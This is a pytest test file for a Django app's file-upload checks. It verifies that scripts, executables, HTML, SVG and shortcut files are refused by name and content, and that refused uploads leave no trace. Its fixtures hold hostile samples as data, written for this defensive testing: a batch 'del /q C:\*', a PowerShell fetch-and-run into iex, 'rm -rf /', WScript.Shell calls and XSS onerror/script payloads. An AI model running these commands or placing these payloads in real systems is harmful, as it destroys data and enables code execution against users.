"""Uploads: an allow-list by extension AND content, over the whole file; scripts, executables, HTML/XHTML/SVG
and shortcuts are refused whatever they hold; the stored name's extension is what the file is; a refused
upload, alone or among others, leaves nothing on disk and nothing in the database."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from reform.errors import ValidationError
from tasks_app import services
from tasks_app.files import classify
from tasks_app.models import Attachment, Feedback
from tasks_app.services import attachment_store
from tasks_app.workflow import Status
from tests.factories import make_task
from tests.tasks_app.workflow_helpers import drive

pytestmark = pytest.mark.django_db
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32

REFUSED = [
    ("run.bat", b"@echo off\r\ndel /q C:\\*\r\n"),
    ("run.bat", "本旬工作说明".encode()),  # a harmless text named .bat: the name alone refuses it
    ("update.js", b"var s = new ActiveXObject('WScript.Shell');"),
    ("macro.vbs", b'Set o = CreateObject("WScript.Shell")'),
    ("script.ps1", b"Invoke-WebRequest http://x | iex"),
    ("shortcut.url", b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n"),
    ("shortcut.lnk", b"L\x00\x00\x00\x01\x14\x02\x00"),
    ("page.html", b'<p>hi</p><img src=x onerror="alert(1)">'),
    ("page.htm", "普通文本".encode()),
    ("page.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>'),
    ("picture.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ("fake.exe", PDF),  # a PDF named .exe is refused, not stored as fake.exe
    ("setup.msi", PDF),
    ("说明.txt", b'<img src=x onerror="alert(1)">'),
    ("说明.txt", b"a" * 70_000 + b"\n<script>alert(1)</script>"),  # past 64 KiB: still checked
    ("数据.csv", b"a,b\n1,2\n" * 10_000 + b"[InternetShortcut]\nURL=file:///x\n"),
    ("说明.txt", b"line one\n#!/bin/sh\nrm -rf /\n"),
    ("页面.txt", b'<?xml version="1.0"?><html/>'),
]


@pytest.fixture(autouse=True)
def own_media_root(settings, tmp_path):
    """Files of this test only, so parallel workers writing their own cannot disturb the count."""
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def task(dsj, jxj, office_user, dsj_handler):
    item = make_task("1", lead_unit=dsj, deadline=date(2027, 1, 1), cooperating_units=(jxj,))
    return drive(item, Status.IN_PROGRESS, office=office_user, unit_user=dsj_handler)


def files_on_disk() -> list[Path]:
    root = Path(settings.MEDIA_ROOT) / "attachments"
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.mark.parametrize(("name", "content"), REFUSED)
def test_a_hostile_file_is_refused_whatever_it_holds(task, dsj_handler, name, content):
    before = files_on_disk()

    with pytest.raises(ValidationError) as caught:
        attachment_store(actor=dsj_handler, task=task, uploaded_file=SimpleUploadedFile(name, content))

    assert name in caught.value.message and "类型不允许" in caught.value.message
    assert not Attachment.objects.exists()
    assert files_on_disk() == before


@pytest.mark.parametrize(
    ("name", "content", "stored"),
    [
        ("照片.jpg", PNG, "照片.png"),  # really a PNG: stored as one
        ("报告", PDF, "报告.pdf"),  # no extension: it gets the one of what it is
        ("报告.exe.pdf", PDF, "报告.exe.pdf"),  # the last extension is what opens it
        ("说明.TXT", "普通文本 a < b".encode(), "说明.TXT"),
    ],
)
def test_the_stored_name_ends_in_what_the_file_is(task, dsj_handler, name, content, stored):
    attachment = attachment_store(actor=dsj_handler, task=task, uploaded_file=SimpleUploadedFile(name, content))

    assert attachment.original_name == stored


def test_classify_checks_both_name_and_content():
    assert classify("a.pdf", PDF) == ("application/pdf", "a.pdf")
    assert classify("a.exe", PDF) is None
    assert classify("a.pdf", b"MZ\x90\x00") is None


def test_a_refused_file_among_several_leaves_nothing_behind(api, task, dsj_handler):
    before = files_on_disk()
    good = SimpleUploadedFile("佐证.pdf", PDF + b"unique-1")
    bad = SimpleUploadedFile("run.bat", b"@echo off\r\n")

    response = api["dsj_handler"].post(
        f"/api/tasks/{task.pk}/feedback/", {"text": "进展", "progress": 30, "files": [good, bad]}, format="multipart"
    )

    assert response.status_code == 400, response.content.decode()
    assert "run.bat" in response.json()["message"]
    assert not Feedback.objects.exists() and not Attachment.objects.exists()
    assert files_on_disk() == before


def test_a_report_that_fails_after_its_files_were_written_removes_them(task, dsj_handler, monkeypatch):
    before = files_on_disk()

    def fail(*args, **kwargs):
        raise RuntimeError("the database went away after the files were written")

    monkeypatch.setattr("tasks_app.services.feedback.rollup_from", fail)
    monkeypatch.setattr("tasks_app.services.feedback.schedule_light_refresh", fail)
    with pytest.raises(RuntimeError):
        services.feedback_submit(
            actor=dsj_handler,
            task=task,
            text="进展",
            progress=30,
            files=[SimpleUploadedFile("佐证.pdf", PDF + b"unique-2"), SimpleUploadedFile("图.png", PNG + b"u2")],
        )

    assert not Attachment.objects.exists()
    assert files_on_disk() == before
